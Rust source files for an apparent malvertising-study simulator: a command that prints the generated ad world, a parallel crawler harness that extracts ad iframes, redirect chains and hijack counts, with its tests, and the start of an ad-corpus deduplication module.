fn cmd_world(flags: &HashMap<String, String>) -> Result<(), String> {
    let seed = flag(flags, "seed", 2014u64)?;
    let world = StudyWorld::build(
        seed,
        &WebConfig::default(),
        &AdWorldConfig::default(),
        1.0,
        30,
    );
    println!("seed {seed}");
    println!(
        "web: {} sites ({} with ad slots, {} total slots)",
        world.web.sites.len(),
        world
            .web
            .sites
            .iter()
            .filter(|s| !s.ad_slots.is_empty())
            .count(),
        world.web.total_ad_slots()
    );
    println!("ad networks: {}", world.ads.networks().len());
    for n in world.ads.networks().iter().take(8) {
        println!(
            "  {} [{}] filter {:.0}% resale {:.0}%{}",
            n.name,
            n.tier.label(),
            n.filter_strength * 100.0,
            n.resale_propensity * 100.0,
            if n.is_hotspot { "  <-- hotspot" } else { "" }
        );
    }
    println!(
        "  ... ({} more)",
        world.ads.networks().len().saturating_sub(8)
    );
    let malicious = world
        .ads
        .campaigns()
        .iter()
        .filter(|c| c.is_malicious())
        .count();
    println!(
        "campaigns: {} ({} malicious)",
        world.ads.campaigns().len(),
        malicious
    );
    println!(
        "filter list: {} blocking rules, {} exceptions",
        world.filter.blocking_rule_count(),
        world.filter.exception_rule_count()
    );
    println!(
        "oracle: {} blacklist feeds (threshold >{}), {} scan engines (consensus {})",
        world.blacklists.feeds().len(),
        world.blacklists.threshold(),
        world.scanner.engines().len(),
        world.scanner.consensus()
    );
    Ok(())
}
