//! The crawl harness: visit scheduling, ad-iframe extraction, worker pool.

use crate::aggregate::CrawlAggregate;
use crate::engine::{FilterEngine, FilterStats};
use malvert_adscript::{ScriptCache, ScriptEngine, ScriptStats};
use malvert_browser::{BehaviorEvent, Browser, BrowserLimits, PageVisit, Personality};
use malvert_engine::{run_fold_observed, Boundary, EngineConfig, EngineStats};
use malvert_filterlist::{FilterSet, RequestContext};
use malvert_net::{CapturedExchange, Network, TrafficCapture};
use malvert_trace::{MetricsRegistry, SpanKind, TraceSink, WorkerMetrics};
use malvert_types::rng::SeedTree;
use malvert_types::{CrawlSchedule, ErrorCounters, SimTime, SiteId, Url};
use malvert_websim::Site;

/// One advertisement observation: an ad iframe the crawler found on a page,
/// with the traffic chain behind it.
#[derive(Debug, Clone)]
pub struct AdObservation {
    /// Publisher site the ad appeared on.
    pub site: SiteId,
    /// When the observation happened.
    pub time: SimTime,
    /// The iframe's request URL (the slot request at the contracted
    /// network).
    pub request_url: Url,
    /// URL the final creative document came from.
    pub final_url: Url,
    /// The redirect chain from request to fill, as captured URLs (length 1
    /// when the impression filled directly). This is the §4.3 arbitration
    /// chain.
    pub chain: Vec<Url>,
    /// The creative document (serialized after script execution) — the
    /// paper's "HTML documents based on the contents of the iframes".
    pub creative_html: String,
    /// Whether the publisher sandboxed this iframe.
    pub sandboxed: bool,
    /// Whether the frame failed to load.
    pub failed: bool,
    /// The EasyList rule text that identified the iframe as an ad.
    pub matched_rule: String,
}

/// One page visit's crawl output.
#[derive(Debug, Clone)]
pub struct VisitRecord {
    /// The visited site.
    pub site: SiteId,
    /// Visit time.
    pub time: SimTime,
    /// Ad observations on this page.
    pub ads: Vec<AdObservation>,
    /// Total iframes on the page (ads + widgets), for the sandbox census.
    pub total_iframes: usize,
    /// How many iframes carried the `sandbox` attribute.
    pub sandboxed_iframes: usize,
    /// `top.location` hijacks that actually dragged the page away during
    /// this visit — the user-facing exposure §4.4 worries about.
    pub hijack_exposures: usize,
    /// Hijack attempts blocked by the `sandbox` attribute.
    pub hijacks_blocked: usize,
    /// Whether the page load failed entirely.
    pub failed: bool,
    /// Per-class counters for every crawl error the visit met, including
    /// failures a retry recovered from.
    pub errors: ErrorCounters,
    /// True when the visit rendered but lost evidence to unrecovered
    /// transport faults (see `PageVisit::degraded`).
    pub degraded: bool,
}

/// Crawl parameters.
#[derive(Debug, Clone)]
pub struct CrawlConfig {
    /// Visit schedule (days × refreshes).
    pub schedule: CrawlSchedule,
    /// Worker threads (1 = sequential).
    pub workers: usize,
    /// Browser limits per page load.
    pub browser_limits: BrowserLimits,
    /// Per-worker filter-verdict memo capacity, in entries (0 disables
    /// memoization). The memo only short-circuits recomputation — it can
    /// never change a verdict — so this is purely a speed/memory knob.
    pub filter_memo: usize,
    /// Script compilation cache capacity, in entries (0 disables the cache).
    /// The cache is shared across all workers and keyed by a content hash of
    /// the byte-identical script source, so a hit can never change what a
    /// script does — like `filter_memo`, purely a speed/memory knob.
    pub script_cache: usize,
    /// Script execution engine (bytecode VM by default). The tree-walk
    /// oracle computes the identical answers more slowly; the knob exists
    /// for differential testing and for bisecting suspected VM bugs.
    pub script_engine: ScriptEngine,
}

impl Default for CrawlConfig {
    fn default() -> Self {
        CrawlConfig {
            schedule: CrawlSchedule::scaled(10, 2),
            workers: 8,
            browser_limits: BrowserLimits::default(),
            filter_memo: 4096,
            script_cache: 4096,
            script_engine: ScriptEngine::default(),
        }
    }
}

/// Staged builder for [`Crawler`].
///
/// The network and filter list are the only required inputs; configuration
/// and seeds are chained on, so growing the crawler a new knob never breaks
/// existing call sites again.
pub struct CrawlerBuilder<'a> {
    network: &'a Network,
    filter: &'a FilterSet,
    config: CrawlConfig,
    study: SeedTree,
    trace: TraceSink,
    filter_stats: FilterStats,
    script_stats: ScriptStats,
    metrics: MetricsRegistry,
}

impl<'a> CrawlerBuilder<'a> {
    /// Replaces the whole crawl configuration.
    pub fn config(mut self, config: CrawlConfig) -> Self {
        self.config = config;
        self
    }

    /// Sets the visit schedule.
    pub fn schedule(mut self, schedule: CrawlSchedule) -> Self {
        self.config.schedule = schedule;
        self
    }

    /// Sets the worker-thread count (1 = sequential).
    pub fn workers(mut self, workers: usize) -> Self {
        self.config.workers = workers;
        self
    }

    /// Sets the browser limits per page load.
    pub fn browser_limits(mut self, limits: BrowserLimits) -> Self {
        self.config.browser_limits = limits;
        self
    }

    /// Sets the seed tree crawl-time randomness derives from.
    pub fn seeds(mut self, seeds: SeedTree) -> Self {
        self.study = seeds;
        self
    }

    /// Attaches a trace sink; every page visit becomes a
    /// [`SpanKind::CrawlVisit`] span (per-worker sharded when the crawl runs
    /// parallel).
    pub fn trace(mut self, trace: TraceSink) -> Self {
        self.trace = trace;
        self
    }

    /// Sets the per-worker filter-verdict memo capacity (see
    /// [`CrawlConfig::filter_memo`]).
    pub fn filter_memo(mut self, entries: usize) -> Self {
        self.config.filter_memo = entries;
        self
    }

    /// Attaches shared filter-engine counters; every worker's engine tallies
    /// into this handle, so snapshot it after [`Crawler::run`] returns.
    pub fn filter_stats(mut self, stats: FilterStats) -> Self {
        self.filter_stats = stats;
        self
    }

    /// Sets the script compilation cache capacity (see
    /// [`CrawlConfig::script_cache`]).
    pub fn script_cache(mut self, entries: usize) -> Self {
        self.config.script_cache = entries;
        self
    }

    /// Attaches shared script-cache counters; every browser the crawl spins
    /// up tallies into this handle, so snapshot it after [`Crawler::run`]
    /// returns.
    pub fn script_stats(mut self, stats: ScriptStats) -> Self {
        self.script_stats = stats;
        self
    }

    /// Selects the script execution engine (see
    /// [`CrawlConfig::script_engine`]).
    pub fn script_engine(mut self, engine: ScriptEngine) -> Self {
        self.config.script_engine = engine;
        self
    }

    /// Attaches a run-health metrics registry; every page visit's wall
    /// latency lands in a per-worker histogram shard
    /// ([`MetricsRegistry::disabled`] = metering off, the default).
    pub fn metrics(mut self, metrics: MetricsRegistry) -> Self {
        self.metrics = metrics;
        self
    }

    /// Assembles the crawler.
    pub fn build(self) -> Crawler<'a> {
        let script_cache = ScriptCache::new(self.config.script_cache, self.script_stats);
        // Standalone `crawl_visit` calls share one recording shard so they
        // don't register a new one per visit.
        let solo_metrics = self.metrics.for_worker();
        Crawler {
            network: self.network,
            filter: self.filter,
            config: self.config,
            study: self.study,
            trace: self.trace,
            filter_stats: self.filter_stats,
            script_cache,
            metrics: self.metrics,
            solo_metrics,
        }
    }
}

/// The crawler.
pub struct Crawler<'a> {
    network: &'a Network,
    filter: &'a FilterSet,
    config: CrawlConfig,
    study: SeedTree,
    trace: TraceSink,
    filter_stats: FilterStats,
    /// One compile cache for the whole crawl, shared by every worker's
    /// browsers (read-mostly: the popular creatives compile once, ever).
    script_cache: ScriptCache,
    /// Run-health registry visit latencies record into (disabled = no-op).
    metrics: MetricsRegistry,
    /// The shard standalone [`Crawler::crawl_visit`] calls record on.
    solo_metrics: WorkerMetrics,
}

/// The trace unit key of one scheduled page visit: site index in the high
/// 32 bits, day and refresh below. Stable across worker counts because it
/// depends only on the schedule, never on which worker ran the visit.
pub fn visit_unit_key(site: SiteId, time: SimTime) -> u64 {
    (u64::from(site.0) << 32) | (u64::from(time.day) << 8) | u64::from(time.refresh)
}

impl<'a> Crawler<'a> {
    /// Starts building a crawler over the network with the given filter
    /// list. Defaults: [`CrawlConfig::default`], seed tree rooted at `0`.
    pub fn builder(network: &'a Network, filter: &'a FilterSet) -> CrawlerBuilder<'a> {
        CrawlerBuilder {
            network,
            filter,
            config: CrawlConfig::default(),
            study: SeedTree::new(0),
            trace: TraceSink::disabled(),
            filter_stats: FilterStats::new(),
            script_stats: ScriptStats::new(),
            metrics: MetricsRegistry::disabled(),
        }
    }

    /// A fresh filter engine for one worker thread (or one standalone
    /// visit), tallying into the crawler's shared [`FilterStats`].
    fn filter_engine(&self) -> FilterEngine<'a> {
        FilterEngine::new(
            self.filter,
            self.config.filter_memo,
            self.filter_stats.clone(),
        )
    }

    /// The shared filter-engine counters workers tally into.
    pub fn filter_stats(&self) -> &FilterStats {
        &self.filter_stats
    }

    /// The shared script-cache counters every browser tallies into.
    pub fn script_stats(&self) -> &ScriptStats {
        self.script_cache.stats()
    }

    /// Visits one site at one schedule slot.
    pub fn crawl_visit(&self, site: &Site, time: SimTime) -> VisitRecord {
        self.crawl_visit_on(
            site,
            time,
            &self.trace,
            &mut self.filter_engine(),
            &self.solo_metrics,
        )
    }

    /// [`Crawler::crawl_visit`] recorded on an explicit sink (the worker
    /// pool passes per-worker shards here) with a caller-owned filter
    /// engine, so memo and scratch persist across a worker's visits, and a
    /// caller-owned metrics shard for the visit's wall latency.
    fn crawl_visit_on(
        &self,
        site: &Site,
        time: SimTime,
        trace: &TraceSink,
        engine: &mut FilterEngine<'_>,
        metrics: &WorkerMetrics,
    ) -> VisitRecord {
        let timer = metrics.start();
        let scoped = trace.scoped(visit_unit_key(site.id, time));
        let span = scoped.span(SpanKind::CrawlVisit, format!("{} {}", site.domain, time));
        let browser = Browser::new(
            self.network,
            Personality::vulnerable_victim(),
            self.config.browser_limits,
            self.study,
        )
        .script_cache(self.script_cache.clone())
        .script_engine(self.config.script_engine);
        let visit = browser.visit(&site.front_page(), time);
        if scoped.is_enabled() && visit.script_compile_units > 0 {
            // The unit count is deterministic in the page content; only the
            // wall envelope varies. (Cache hit/miss attribution is a
            // scheduling accident, so it stays out of the trace.)
            let compile_span = scoped.span(
                SpanKind::ScriptCompile,
                format!("{} compile units", visit.script_compile_units),
            );
            compile_span.finish();
        }
        if scoped.is_enabled() {
            // Error accounting is deterministic in (seed, schedule, profile),
            // so these events survive wall stripping byte-identically.
            for err in &visit.error_log {
                scoped.event(SpanKind::Fault, err.to_string());
            }
            if visit.errors.retries > 0 {
                scoped.event(SpanKind::Retry, format!("{} retries", visit.errors.retries));
            }
        }
        let record = self.extract(site, time, &visit, engine, &scoped);
        span.finish();
        metrics.record_visit(timer);
        record
    }

    /// Extracts the crawl record from a completed page visit.
    fn extract(
        &self,
        site: &Site,
        time: SimTime,
        visit: &PageVisit,
        engine: &mut FilterEngine<'_>,
        scoped: &TraceSink,
    ) -> VisitRecord {
        let hijack_exposures = visit
            .events
            .iter()
            .filter(|e| matches!(e, BehaviorEvent::TopLocationHijack { .. }))
            .count();
        let hijacks_blocked = visit
            .events
            .iter()
            .filter(|e| matches!(e, BehaviorEvent::SandboxedHijackBlocked { .. }))
            .count();
        if visit.top.failed {
            return VisitRecord {
                site: site.id,
                time,
                ads: Vec::new(),
                total_iframes: 0,
                sandboxed_iframes: 0,
                hijack_exposures,
                hijacks_blocked,
                failed: true,
                errors: visit.errors,
                degraded: visit.degraded,
            };
        }
        let ctx = RequestContext::iframe_from(&site.domain);
        let mut ads = Vec::new();
        let total_iframes = visit.top.iframes.len();
        let sandboxed_iframes = visit.top.iframes.iter().filter(|f| f.has_sandbox).count();

        // Child snapshots are in document order for iframes with non-empty
        // src; align them by walking both lists.
        let mut child_iter = visit.top.children.iter();
        for iframe in &visit.top.iframes {
            if iframe.src.is_empty() {
                continue;
            }
            let request_url = match visit.top.final_url.join(&iframe.src) {
                Ok(u) => u,
                Err(_) => continue,
            };
            let child = match child_iter.next() {
                Some(c) => c,
                None => break,
            };
            let matched = if scoped.is_enabled() {
                let span = scoped.span(SpanKind::FilterMatch, request_url.without_fragment());
                let matched = engine.matches(&request_url, &ctx);
                span.finish();
                matched
            } else {
                engine.matches(&request_url, &ctx)
            };
            if let malvert_filterlist::MatchResult::Blocked(rule) = matched {
                let chain = chain_from(&visit.capture, &request_url);
                ads.push(AdObservation {
                    site: site.id,
                    time,
                    request_url,
                    final_url: child.final_url.clone(),
                    chain,
                    creative_html: child.raw_html.clone(),
                    sandboxed: iframe.has_sandbox,
                    failed: child.failed,
                    matched_rule: rule,
                });
            }
        }
        VisitRecord {
            site: site.id,
            time,
            ads,
            total_iframes,
            sandboxed_iframes,
            hijack_exposures,
            hijacks_blocked,
            failed: false,
            errors: visit.errors,
            degraded: visit.degraded,
        }
    }

    /// Total page-visit jobs the schedule implies over `sites`: one per
    /// `(site, slot)` pair, site-major. Job `j` visits site
    /// `j / slots` at slot `j % slots`; this is the index space the
    /// engine's shards — and therefore crawl checkpoints — count in.
    pub fn total_jobs(&self, sites: &[Site]) -> usize {
        sites.len() * self.config.schedule.slots().count()
    }

    /// Persistent state for worker `worker`: its sharded trace sink plus
    /// its filter engine, whose memo carries across every visit the worker
    /// claims (exactly like the old dedicated worker loops), plus its
    /// metrics shard.
    fn worker_state(&self, worker: usize) -> CrawlWorker<'a> {
        CrawlWorker {
            trace: self.trace.for_worker(worker as u32),
            engine: self.filter_engine(),
            metrics: self.metrics.for_worker(),
        }
    }

    /// The one crawl driver: runs jobs `[start_job, total)` on the engine,
    /// folding each completed visit into `state`. `boundary` runs with all
    /// workers parked after every `shard_size` jobs (and at the end), so a
    /// `Stop` leaves `state` as the exact fold of jobs
    /// `[0, returned next_job)`.
    #[allow(clippy::too_many_arguments)]
    fn drive<S: Send>(
        &self,
        sites: &[Site],
        start_job: usize,
        shard_size: usize,
        stats: Option<&EngineStats>,
        state: S,
        fold: impl Fn(&mut S, usize, VisitRecord) + Sync,
        boundary: impl FnMut(&mut S, usize) -> Boundary,
    ) -> (S, usize) {
        let slots: Vec<SimTime> = self.config.schedule.slots().collect();
        let total = sites.len() * slots.len();
        let config = EngineConfig::new(self.config.workers, shard_size);
        let outcome = run_fold_observed(
            &config,
            stats,
            start_job..total,
            state,
            |worker| self.worker_state(worker),
            |ctx, job| {
                let site = &sites[job / slots.len()];
                let time = slots[job % slots.len()];
                self.crawl_visit_on(site, time, &ctx.trace, &mut ctx.engine, &ctx.metrics)
            },
            fold,
            boundary,
        );
        (outcome.state, outcome.next_job)
    }

    /// Crawls every site through the full schedule, invoking `sink` for
    /// each visit record. Work is spread over `config.workers` threads via
    /// the shared engine; `sink` runs serialized (one record at a time) in
    /// completion order.
    pub fn run(&self, sites: &[Site], sink: impl FnMut(VisitRecord) + Send) {
        let total = self.total_jobs(sites);
        self.drive(
            sites,
            0,
            total,
            None,
            sink,
            |sink, _, record| sink(record),
            |_, _| Boundary::Continue,
        );
    }

    /// Crawls jobs `[start_job, total)` of the schedule, folding every
    /// record into `aggregate` as it completes. `boundary` observes the
    /// exact aggregate of the completed prefix after each `shard_size`-job
    /// shard (checkpoint writers live here); returning [`Boundary::Stop`]
    /// parks the crawl. When `stats` is provided, scheduler steal/park/
    /// balance meters accumulate into it. Returns the aggregate plus the
    /// first unvisited job index — `total_jobs` unless stopped early.
    pub fn run_aggregate(
        &self,
        sites: &[Site],
        aggregate: CrawlAggregate,
        start_job: usize,
        shard_size: usize,
        stats: Option<&EngineStats>,
        mut boundary: impl FnMut(&CrawlAggregate, usize) -> Boundary,
    ) -> (CrawlAggregate, usize) {
        self.drive(
            sites,
            start_job,
            shard_size,
            stats,
            aggregate,
            |agg, _, record| agg.absorb(&record),
            |agg, next| boundary(agg, next),
        )
    }
}

/// One crawl worker's persistent scratch: the trace shard it records on,
/// the filter engine whose memo survives across all its visits, and the
/// metrics shard its visit latencies land in.
struct CrawlWorker<'a> {
    trace: TraceSink,
    engine: FilterEngine<'a>,
    metrics: WorkerMetrics,
}

/// Reconstructs the fetch chain starting at `start`: follows `Location`
/// links through the capture. Includes the final (non-redirect) exchange.
pub fn chain_from(capture: &TrafficCapture, start: &Url) -> Vec<Url> {
    let exchanges = capture.exchanges();
    let mut chain = Vec::new();
    let mut cursor: Option<&CapturedExchange> = exchanges.iter().find(|e| e.url == *start);
    let mut guard = 0;
    while let Some(e) = cursor {
        chain.push(e.url.clone());
        guard += 1;
        if guard > 64 {
            break;
        }
        cursor = match &e.location {
            Some(target) => exchanges.iter().find(|c| c.url == *target),
            None => None,
        };
    }
    chain
}

#[cfg(test)]
mod tests {
    use super::*;
    use malvert_adnet::{AdWorld, AdWorldConfig};
    use malvert_websim::{page::PublisherServer, page::WidgetServer, WebConfig, WorldWeb};
    use std::sync::Arc;

    /// Builds a miniature full world: web + ad economy + filter list.
    fn mini_world() -> (Network, WorldWeb, AdWorld, FilterSet) {
        let tree = SeedTree::new(99);
        let web_config = WebConfig {
            ranking_universe: 10_000,
            top_slice: 20,
            bottom_slice: 20,
            random_slice: 20,
            security_feed: 10,
            ad_network_count: 40,
            sandbox_adoption: 0.0,
        };
        let web = WorldWeb::generate(tree, &web_config);
        let ads = AdWorld::generate(tree, &AdWorldConfig::default());
        let mut net = Network::new(tree);
        ads.register_servers(&mut net);
        let domains = Arc::new(ads.network_domains());
        for site in &web.sites {
            net.register(
                site.domain.clone(),
                Arc::new(PublisherServer::new(site.clone(), Arc::clone(&domains))),
            );
        }
        net.register(
            malvert_websim::page::widget_domain(),
            Arc::new(WidgetServer),
        );
        // Filter list: one domain-anchor rule per ad network.
        let list: String = ads
            .network_domains()
            .iter()
            .map(|d| format!("||{d}^\n"))
            .collect();
        let filter = FilterSet::parse(&list);
        (net, web, ads, filter)
    }

    #[test]
    fn single_visit_extracts_ads() {
        let (net, web, _ads, filter) = mini_world();
        let crawler = Crawler::builder(&net, &filter)
            .seeds(SeedTree::new(99))
            .build();
        let site = web
            .sites
            .iter()
            .find(|s| s.ad_slots.len() >= 2)
            .expect("site with slots");
        let record = crawler.crawl_visit(site, SimTime::at(3, 1));
        assert!(!record.failed);
        assert_eq!(record.ads.len(), site.ad_slots.len());
        for ad in &record.ads {
            assert!(!ad.chain.is_empty());
            assert_eq!(ad.chain[0], ad.request_url);
            assert!(!ad.creative_html.is_empty() || ad.failed);
            assert!(!ad.sandboxed);
        }
    }

    #[test]
    fn widget_iframes_not_extracted_as_ads() {
        let (net, web, _ads, filter) = mini_world();
        let crawler = Crawler::builder(&net, &filter)
            .seeds(SeedTree::new(99))
            .build();
        // Crawl many visits; widget iframes appear with prob 0.3 but must
        // never be classified as ads.
        let mut widget_seen = false;
        for site in web.sites.iter().take(12) {
            for refresh in 0..3 {
                let record = crawler.crawl_visit(site, SimTime::at(0, refresh));
                if record.total_iframes > site.ad_slots.len() {
                    widget_seen = true;
                }
                assert!(
                    record.ads.len() <= site.ad_slots.len(),
                    "widget misclassified as ad"
                );
            }
        }
        assert!(widget_seen, "no widget iframe appeared at all");
    }

    #[test]
    fn chain_reconstruction_matches_hops() {
        let (net, web, _ads, filter) = mini_world();
        let crawler = Crawler::builder(&net, &filter)
            .seeds(SeedTree::new(99))
            .build();
        // Find an observation with an arbitration chain.
        let mut found = false;
        'outer: for site in web.sites.iter().filter(|s| !s.ad_slots.is_empty()) {
            for day in 0..6 {
                let record = crawler.crawl_visit(site, SimTime::at(day, 0));
                for ad in &record.ads {
                    if ad.chain.len() > 2 {
                        // Chain must end at the final creative URL.
                        assert_eq!(*ad.chain.last().unwrap(), ad.final_url);
                        found = true;
                        break 'outer;
                    }
                }
            }
        }
        assert!(found, "no arbitration chain observed in the sample");
    }

    #[test]
    fn parallel_run_matches_sequential() {
        let (net, web, _ads, filter) = mini_world();
        let sites: Vec<Site> = web.sites.iter().take(6).cloned().collect();
        let config = CrawlConfig {
            schedule: CrawlSchedule::scaled(2, 2),
            workers: 1,
            browser_limits: BrowserLimits::default(),
            filter_memo: 64,
            script_cache: 64,
            script_engine: ScriptEngine::default(),
        };
        let crawler = Crawler::builder(&net, &filter)
            .config(config.clone())
            .seeds(SeedTree::new(99))
            .build();
        let mut seq: Vec<(SiteId, SimTime, usize)> = Vec::new();
        crawler.run(&sites, |r| seq.push((r.site, r.time, r.ads.len())));

        let crawler = Crawler::builder(&net, &filter)
            .config(config)
            .workers(4)
            .seeds(SeedTree::new(99))
            .build();
        let mut par: Vec<(SiteId, SimTime, usize)> = Vec::new();
        crawler.run(&sites, |r| par.push((r.site, r.time, r.ads.len())));

        seq.sort();
        par.sort();
        assert_eq!(seq, par);
    }

    #[test]
    fn schedule_produces_expected_visit_count() {
        let (net, web, _ads, filter) = mini_world();
        let sites: Vec<Site> = web.sites.iter().take(4).cloned().collect();
        let crawler = Crawler::builder(&net, &filter)
            .schedule(CrawlSchedule::scaled(3, 5))
            .workers(2)
            .seeds(SeedTree::new(99))
            .build();
        let mut count = 0;
        crawler.run(&sites, |_| count += 1);
        assert_eq!(count, 4 * 3 * 5);
    }

    #[test]
    fn filter_stats_tally_and_total_lookups_deterministic() {
        let (net, web, _ads, filter) = mini_world();
        let sites: Vec<Site> = web.sites.iter().take(4).cloned().collect();
        let run = |workers: usize| {
            let stats = FilterStats::new();
            let crawler = Crawler::builder(&net, &filter)
                .schedule(CrawlSchedule::scaled(2, 2))
                .workers(workers)
                .seeds(SeedTree::new(99))
                .filter_stats(stats.clone())
                .build();
            crawler.run(&sites, |_| {});
            stats.snapshot()
        };
        let seq = run(1);
        let par = run(4);
        assert!(seq.lookups > 0, "crawl performed no filter lookups");
        assert_eq!(seq.cache_hits + seq.cache_misses, seq.lookups);
        assert_eq!(par.cache_hits + par.cache_misses, par.lookups);
        // The lookup total is a pure function of the schedule and the
        // simulated pages; only the hit/miss split may move with worker
        // scheduling.
        assert_eq!(seq.lookups, par.lookups);
    }

    #[test]
    fn script_cache_hit_rate_high_and_lookups_deterministic() {
        let (net, web, _ads, filter) = mini_world();
        let sites: Vec<Site> = web.sites.iter().take(4).cloned().collect();
        let run = |workers: usize, capacity: usize| {
            let stats = ScriptStats::new();
            let crawler = Crawler::builder(&net, &filter)
                .schedule(CrawlSchedule::scaled(2, 2))
                .workers(workers)
                .seeds(SeedTree::new(99))
                .script_cache(capacity)
                .script_stats(stats.clone())
                .build();
            crawler.run(&sites, |_| {});
            stats.snapshot()
        };
        let seq = run(1, 4096);
        let par = run(4, 4096);
        assert!(seq.lookups > 0, "crawl compiled no scripts");
        assert_eq!(seq.cache_hits + seq.cache_misses, seq.lookups);
        assert_eq!(par.cache_hits + par.cache_misses, par.lookups);
        // Compile attempts are a pure function of the schedule and the
        // simulated pages; only the hit/miss split may move with worker
        // scheduling.
        assert_eq!(seq.lookups, par.lookups);
        // This miniature world rotates creatives per refresh, so most
        // first-run compiles are cold. A *warm* pass over the same pages —
        // the long-lived daemon's steady state — must be nearly all hits:
        // replaying the identical crawl through the same crawler touches
        // only already-cached sources.
        let stats = ScriptStats::new();
        let crawler = Crawler::builder(&net, &filter)
            .schedule(CrawlSchedule::scaled(2, 2))
            .workers(1)
            .seeds(SeedTree::new(99))
            .script_cache(4096)
            .script_stats(stats.clone())
            .build();
        crawler.run(&sites, |_| {});
        let cold = stats.snapshot();
        crawler.run(&sites, |_| {});
        let warm = stats.snapshot();
        let warm_lookups = warm.lookups - cold.lookups;
        let warm_hits = warm.cache_hits - cold.cache_hits;
        assert!(
            warm_hits * 10 >= warm_lookups * 9,
            "warm hit rate below 90%: {warm_hits} hits / {warm_lookups} lookups"
        );
        // Capacity 0 disables caching entirely.
        let cold = run(1, 0);
        assert_eq!(cold.cache_hits, 0);
        assert_eq!(cold.cache_misses, cold.lookups);
        assert_eq!(cold.lookups, seq.lookups);
    }

    #[test]
    fn chain_from_empty_capture() {
        let cap = TrafficCapture::new();
        let url = Url::parse("http://nowhere.com/").unwrap();
        assert!(chain_from(&cap, &url).is_empty());
    }

    #[test]
    fn flaky_origins_do_not_derail_the_crawl() {
        use malvert_net::{HttpResponse, ServeCtx, StatusCode};
        // A publisher whose server 500s every other refresh, plus one whose
        // DNS is gone entirely. The crawl must keep going and record clean
        // failure states.
        let (mut net, web, _ads, filter) = {
            let (net, web, ads, filter) = mini_world();
            (net, web, ads, filter)
        };
        let flaky_site = web.sites[0].clone();
        net.register(
            flaky_site.domain.clone(),
            Arc::new(move |_req: &malvert_net::HttpRequest, ctx: &mut ServeCtx| {
                if ctx.time.refresh % 2 == 0 {
                    HttpResponse {
                        status: StatusCode::INTERNAL_ERROR,
                        body: malvert_net::Body::Empty,
                        location: None,
                        location_ref: None,
                        attachment_filename: None,
                        set_cookies: Vec::new(),
                    }
                } else {
                    HttpResponse::ok(malvert_net::Body::Html(
                        "<html><body>recovered</body></html>".to_string(),
                    ))
                }
            }),
        );
        let crawler = Crawler::builder(&net, &filter)
            .seeds(SeedTree::new(99))
            .build();
        // 500 responses give an empty-ish page: no ads, not "failed".
        let rec0 = crawler.crawl_visit(&flaky_site, SimTime::at(0, 0));
        assert!(!rec0.failed);
        assert!(rec0.ads.is_empty());
        let rec1 = crawler.crawl_visit(&flaky_site, SimTime::at(0, 1));
        assert!(!rec1.failed);

        // A site whose domain never resolves fails cleanly.
        let mut ghost = web.sites[1].clone();
        ghost.domain = malvert_types::DomainName::parse("gone-publisher.example").unwrap();
        let rec = crawler.crawl_visit(&ghost, SimTime::at(0, 0));
        assert!(rec.failed);
        assert!(rec.ads.is_empty());
        // The failure is accounted in the typed taxonomy.
        assert_eq!(rec.errors.dns_failures, 1);
        assert!(!rec.degraded);
    }

    #[test]
    fn injected_faults_degrade_visits_without_derailing_the_crawl() {
        let (mut net, web, _ads, filter) = mini_world();
        // Truncate every non-empty body: the most aggressive persistent
        // damage, certain to hit the very first visit.
        net.set_fault_profile(Some(malvert_net::FaultProfile {
            truncated_body: 1.0,
            ..malvert_net::FaultProfile::default()
        }));
        let crawler = Crawler::builder(&net, &filter)
            .seeds(SeedTree::new(99))
            .build();
        let site = &web.sites[0];
        let rec = crawler.crawl_visit(site, SimTime::at(0, 0));
        // The page still renders from the partial document.
        assert!(!rec.failed);
        assert!(rec.degraded);
        assert!(rec.errors.truncated_bodies > 0);
        // And the same visit is byte-identically accounted on a rebuild.
        let rec2 = crawler.crawl_visit(site, SimTime::at(0, 0));
        assert_eq!(rec.errors, rec2.errors);
        assert_eq!(rec.ads.len(), rec2.ads.len());
    }
}
