//! The advertisement corpus: de-duplicated unique ads.
//!
//! The paper collected 673,596 *unique* advertisements over three months —
//! page loads repeat creatives constantly, so the corpus de-duplicates on
//! the creative document itself. Aggregation is order-insensitive, which
//! keeps the parallel crawl deterministic: `sites` is held sorted and the
//! longest-chain tie-break is lexicographic, so every aggregate is a pure
//! function of the observation *set*, not the arrival order.

use crate::harness::AdObservation;
use malvert_types::rng::mix_label;
use malvert_types::{SimTime, SiteId, Url};
use serde::{Deserialize, Serialize};
use std::cmp::Ordering;
use std::collections::hash_map::Entry;
use std::collections::HashMap;

/// Domain-separation constant for [`creative_key`] (ASCII `malvert1`).
const CREATIVE_KEY_DOMAIN: u64 = 0x6d61_6c76_6572_7431;

/// Stable 64-bit identity of a creative document. Downstream tallies and
/// seed derivations key on this instead of cloning the full serialized
/// creative (which can be kilobytes) per observation.
pub fn creative_key(creative_html: &str) -> u64 {
    mix_label(CREATIVE_KEY_DOMAIN, creative_html.as_bytes())
}

/// One unique advertisement with its observation history. Serializes for
/// checkpoint snapshots; the corpus itself round-trips through
/// [`AdCorpus::ads_sorted`] + [`AdCorpus::from_parts`].
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct UniqueAd {
    /// The creative document (dedup key).
    pub creative_html: String,
    /// Stable hash of `creative_html` (see [`creative_key`]): the corpus
    /// index key, the chain-tally key, and the per-ad oracle seed label.
    pub creative_key: u64,
    /// First time the ad was observed (minimum over all observations —
    /// stable regardless of crawl-thread interleaving).
    pub first_seen: SimTime,
    /// The canonical observation's slot-request URL. The canonical
    /// observation is the minimum `(time, url)` pair, so `(request_url,
    /// first_seen)` together replay an *actually observed* serve — the
    /// oracle's honeyclient re-visit depends on this.
    pub request_url: Url,
    /// The canonical observation's final URL.
    pub final_url: Url,
    /// Last time the ad was observed (maximum over all observations). The
    /// oracle evaluates blacklist knowledge at this day: feeds are monitored
    /// continuously, so an ad is checked against everything the feeds
    /// learned while it was live.
    pub last_seen: SimTime,
    /// Number of times this ad was observed.
    pub observations: u64,
    /// Distinct sites it appeared on, kept sorted.
    pub sites: Vec<SiteId>,
    /// Longest arbitration chain observed for this ad. Among equally long
    /// chains, the lexicographically smallest is kept, so the field does
    /// not depend on observation arrival order.
    pub max_chain: Vec<Url>,
}

/// The de-duplicated corpus.
#[derive(Debug, Default)]
pub struct AdCorpus {
    ads: HashMap<u64, UniqueAd>,
    total_observations: u64,
}

/// Compares two arbitration chains lexicographically by URL text.
/// `Url` itself has no `Ord`, so compare through `Display`.
fn chain_cmp(a: &[Url], b: &[Url]) -> Ordering {
    a.iter().map(Url::to_string).cmp(b.iter().map(Url::to_string))
}

impl AdCorpus {
    /// Creates an empty corpus.
    pub fn new() -> Self {
